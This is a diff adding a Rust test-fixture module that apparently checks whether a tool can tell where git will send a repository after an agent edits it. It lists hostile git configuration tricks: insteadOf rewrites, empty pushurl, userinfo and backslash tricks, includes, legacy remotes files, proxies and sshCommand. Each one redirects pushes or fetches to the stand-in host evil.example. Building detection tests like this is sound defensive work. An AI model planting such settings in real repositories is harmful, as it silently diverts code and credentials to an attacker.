@@ -1,0 +1,313 @@
+//! What an agent may write into a repository, beside the same repository without it. Each part leads git elsewhere.
+
+use super::*;
+
+pub(super) const GITHUB: &str = "https://github.com/acme/app";
+pub(super) const ORIGIN: &str = "[remote \"origin\"]\n\turl = https://github.com/acme/app\n";
+pub(super) const EVIL: &str = "[remote \"evil\"]\n\turl = https://evil.example/x\n";
+
+/// One hostile part.
+pub(super) struct Part {
+    pub(super) what: &'static str,
+    /// The configuration, without and with it.
+    pub(super) plain: &'static str,
+    pub(super) added: &'static str,
+    /// Files and links that come with it.
+    pub(super) files: &'static [(&'static str, &'static str)],
+    pub(super) links: &'static [(&'static str, &'static str)],
+    pub(super) folder: &'static str,
+    pub(super) way: Way,
+    pub(super) raw: Option<&'static str>,
+    /// What is said without it, and with it: addresses, or why they are not known.
+    pub(super) before: &'static str,
+    pub(super) after: &'static str,
+}
+
+/// A part that does nothing, to begin from.
+pub(super) const PART: Part = Part {
+    what: "",
+    plain: ORIGIN,
+    added: "",
+    files: &[],
+    links: &[],
+    folder: "repo",
+    way: Way::Push,
+    raw: None,
+    before: GITHUB,
+    after: "https://evil.example/x",
+};
+
+pub(super) const EMPTY: &str = "(not known, because a remote has an empty address)";
+pub(super) const LEGACY: &str =
+    "(not known, because the repository has remotes in files of their own, outside its configuration)";
+pub(super) const NOT_PLAIN: &str =
+    "(not known, because the configuration of the repository is not in plain files)";
+pub(super) const NOT_UNDERSTOOD: &str =
+    "(not known, because git does not understand the configuration of the repository)";
+pub(super) const FOREIGN: &str =
+    "(not known, because the repository is of a format that not every git reads)";
+pub(super) const CONNECTED: &str =
+    "(not known, because the configuration of the repository changes how git connects)";
+pub(super) const AMBIGUOUS: &str =
+    "(not known, because programs may understand the address of the remote differently)";
+
+pub(super) const LISTS: &[Part] = &[
+    Part {
+        what: "an empty pushurl takes back those before it",
+        plain: "[remote \"origin\"]\n\turl = https://evil.example/x\n\tpushurl = https://github.com/acme/app\n",
+        added: "[remote \"origin\"]\n\tpushurl =\n",
+        after: EMPTY,
+        ..PART
+    },
+    Part {
+        what: "an empty url makes the name the address",
+        plain: "[remote \"https://evil.example/x\"]\n\turl = https://github.com/acme/app\n",
+        added: "[remote \"https://evil.example/x\"]\n\turl =\n",
+        raw: Some("https://evil.example/x"),
+        after: EMPTY,
+        ..PART
+    },
+    Part {
+        what: "of two replacements the first that is named counts",
+        plain: "[url \"https://github.com/\"]\n\tinsteadOf = gh:\n",
+        added: "[url \"https://evil.example/\"]\n\tinsteadOf = gh:\n",
+        raw: Some("gh:acme/app"),
+        after: GITHUB,
+        ..PART
+    },
+    Part {
+        what: "and it is named by whatever it replaces",
+        plain: "[url \"https://evil.example/\"]\n\tinsteadOf = zz:\n[url \"https://github.com/\"]\n\tinsteadOf = gh:\n",
+        added: "[url \"https://evil.example/\"]\n\tinsteadOf = gh:\n",
+        raw: Some("gh:acme/app"),
+        after: "https://evil.example/acme/app",
+        ..PART
+    },
+    Part {
+        what: "what is looked up is what is sent: an address that is replaced",
+        added: "[url \"https://evil.example/\"]\n\tinsteadOf = https://github.com/\n",
+        raw: Some("https://GITHUB.com/acme/app"),
+        after: "https://evil.example/acme/app",
+        ..PART
+    },
+    Part {
+        what: "what is looked up is what is sent: an address that is a name",
+        added: "[remote \"https://github.com/acme/app\"]\n\turl = https://evil.example/x\n",
+        raw: Some("https://GITHUB.com/acme/app"),
+        ..PART
+    },
+    Part {
+        what: "a name that no remote has is an address like any other",
+        plain: "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[branch \"main\"]\n\tremote = gone\n",
+        added: "[url \"https://evil.example/x\"]\n\tinsteadOf = gone\n",
+        ..PART
+    },
+    Part {
+        what: "a name that no remote has may be a folder",
+        plain: "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[branch \"main\"]\n\tremote = gone\n",
+        files: &[("repo/gone.git/HEAD", "ref: refs/heads/main\n")],
+        after: "gone",
+        ..PART
+    },
+    Part {
+        what: "a path is never the name of a remote",
+        plain: "[remote \"there\"]\n\turl = https://github.com/acme/app\n",
+        added: "[remote \"/there\"]\n\turl = https://github.com/acme/app\n",
+        way: Way::Fetch,
+        raw: Some("/there"),
+        before: "/there",
+        after: "/there",
+        ..PART
+    },
+    Part {
+        what: "the words of a group are parted by plain blanks",
+        plain: "[remote \"a\"]\n\turl = https://github.com/acme/app\n[remotes]\n\tgrp = \"a a\"\n",
+        added: "[remote \"a\u{a0}a\"]\n\turl = https://evil.example/x\n[remotes]\n\tgrp = a\u{a0}a\n",
+        way: Way::Fetch,
+        raw: Some("grp"),
+        after: "https://github.com/acme/app https://evil.example/x",
+        ..PART
+    },
+    Part {
+        what: "a group of one is a remote by its own name",
+        plain: "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[remotes]\n\tgrp = origin origin\n",
+        added: "[remotes]\n\tother = origin\n[url \"https://evil.example/x\"]\n\tinsteadOf = grp\n",
+        way: Way::Fetch,
+        raw: Some("grp"),
+        after: "https://github.com/acme/app https://evil.example/x",
+        ..PART
+    },
+    Part {
+        what: "an option is no address",
+        added: "[url \"https://github.com/acme/app\"]\n\tinsteadOf = --repo=evil\n",
+        raw: Some("--repo=evil"),
+        before: "--repo=evil",
+        after: "--repo=evil",
+        ..PART
+    },
+    Part {
+        what: "a login ends at a question mark",
+        plain: "[remote \"up\"]\n\turl = https://github.com/acme/app\n",
+        added: "[remote \"up\"]\n\tpushurl = https://evil.example?@github.com/acme/app\n",
+        after: "https://evil.example?@github.com/acme/app",
+        ..PART
+    },
+    Part {
+        what: "a login ends at a number sign",
+        plain: "[remote \"up\"]\n\turl = https://github.com/acme/app\n",
+        added: "[remote \"up\"]\n\tpushurl = \"https://evil.example#@github.com/acme/app\"\n",
+        after: "https://evil.example#@github.com/acme/app",
+        ..PART
+    },
+    Part {
+        what: "programs do not agree about backslashes",
+        plain: "[remote \"up\"]\n\turl = https://github.com/acme/app\n",
+        added: "[remote \"up\"]\n\tpushurl = \"https://github.com\\\\@evil.example/x\"\n",
+        after: AMBIGUOUS,
+        ..PART
+    },
+];
+
+pub(super) const FILES: &[Part] = &[
+    Part {
+        what: "remotes/NAME",
+        files: &[("repo/.git/remotes/gone", "URL: https://evil.example/x\n")],
+        after: LEGACY,
+        ..PART
+    },
+    Part {
+        what: "branches/NAME",
+        files: &[("repo/.git/branches/gone", "https://evil.example/x\n")],
+        after: LEGACY,
+        ..PART
+    },
+    Part {
+        what: "a name there that looks like an address",
+        files: &[("repo/.git/remotes/github.com:z", "URL: https://evil.example/x\n")],
+        raw: Some("github.com:z"),
+        before: "github.com:z",
+        after: LEGACY,
+        ..PART
+    },
+    Part {
+        what: "a HEAD that is a link",
+        links: &[("repo/.git/HEAD", "refs/heads/main")],
+        after: NOT_PLAIN,
+        ..PART
+    },
+    Part {
+        what: "a branch that stands for another",
+        files: &[("repo/.git/refs/heads/main", "ref: refs/heads/other\n")],
+        after: NOT_PLAIN,
+        ..PART
+    },
+    Part {
+        what: "a branch that is broken",
+        files: &[("repo/.git/refs/heads/main", "nonsense\n")],
+        after: NOT_PLAIN,
+        ..PART
+    },
+    Part {
+        what: "a branch with a blank that only some strip",
+        plain: "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[remote \"evil\"]\n\turl = https://evil.example/x\n[branch \"m\u{a0}\"]\n\tremote = evil\n",
+        files: &[("repo/.git/HEAD", "ref: refs/heads/m\u{a0}\n")],
+        ..PART
+    },
+    Part {
+        what: "a branch of a name that git does not take",
+        files: &[("repo/.git/HEAD", "ref: refs/heads/a b\n")],
+        after: NOT_UNDERSTOOD,
+        ..PART
+    },
+    Part {
+        what: "worktree settings that only an include turns on or off",
+        added: "[extensions]\n\tworktreeConfig = true\n[include]\n\tpath = inc\n",
+        files: &[
+            ("repo/.git/inc", "[extensions]\n\tworktreeConfig = false\n"),
+            ("repo/.git/config.worktree", "[remote \"origin\"]\n\tpushurl = https://evil.example/x\n"),
+        ],
+        ..PART
+    },
+    Part {
+        what: "a truth value that only git understands",
+        added: "[extensions]\n\tworktreeConfig = 00\n",
+        after: NOT_UNDERSTOOD,
+        ..PART
+    },
+    Part {
+        what: "a repository of no plain version",
+        added: "[extensions]\n\tworktreeConfig = true\n[core]\n\trepositoryformatversion = -1\n",
+        after: FOREIGN,
+        ..PART
+    },
+    Part {
+        what: "fetch.all, as only git understands it",
+        way: Way::Fetch,
+        added: "[fetch]\n\tall = 0x0\n",
+        after: NOT_UNDERSTOOD,
+        ..PART
+    },
+    Part {
+        what: "an include beside a link, not beside what it leads to",
+        added: "[include]\n\tpath = inc\n",
+        files: &[
+            (
+                "repo/conf/config",
+                "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[include]\n\tpath = inc\n",
+            ),
+            ("repo/.git/inc", "[remote \"origin\"]\n\tpushurl = https://evil.example/x\n"),
+        ],
+        links: &[("repo/.git/config", "../conf/config")],
+        ..PART
+    },
+    Part {
+        what: "an include by a way that does not exist",
+        plain: "[remote \"origin\"]\n\turl = https://github.com/acme/app\n[branch \"main\"]\n\tremote = origin\n",
+        added: "[remote \"evil\"]\n\turl = https://evil.example/x\n[branch \"main\"]\n\tremote = evil\n[include]\n\tpath = nowhere/../inc\n",
+        files: &[("repo/.git/inc", "[branch \"main\"]\n\tremote = origin\n")],
+        after: NOT_PLAIN,
+        ..PART
+    },
+    Part {
+        what: "a .git without a HEAD is none",
+        plain: EVIL,
+        folder: "repo/sub",
+        files: &[("repo/sub/.git/config", ORIGIN)],
+        before: "https://evil.example/x",
+        ..PART
+    },
+    Part {
+        what: "a folder that looks bare, with a HEAD that means nothing",
+        files: &[
+            ("repo/sub/HEAD", "x\n"),
+            ("repo/sub/objects/x", ""),
+            ("repo/sub/refs/x", ""),
+            ("repo/sub/config", EVIL),
+        ],
+        folder: "repo/sub",
+        after: NOT_UNDERSTOOD,
+        ..PART
+    },
+    Part {
+        what: "a bare repository that shares what is elsewhere",
+        files: &[
+            ("repo/sub/HEAD", "ref: refs/heads/main\n"),
+            ("repo/sub/commondir", "../far\n"),
+            ("repo/far/objects/x", ""),
+            ("repo/far/refs/x", ""),
+            ("repo/far/config", EVIL),
+        ],
+        folder: "repo/sub",
+        ..PART
+    },
+];
+
+pub(super) const CONNECTIONS: [&str; 7] = [
+    "[http]\n\tcurloptResolve = github.com:443:192.0.2.1\n",
+    "[http]\n\tproxy = http://192.0.2.1:3128\n",
+    "[http \"https://github.com/\"]\n\tproxy = http://192.0.2.1:3128\n",
+    "[remote \"origin\"]\n\tproxy = http://192.0.2.1:3128\n",
+    "[core]\n\tgitProxy = /bin/false\n",
+    "[core]\n\tsshCommand = ssh -o HostName=evil.example\n",
+    "[include]\n\tpath = inc\n",
+];
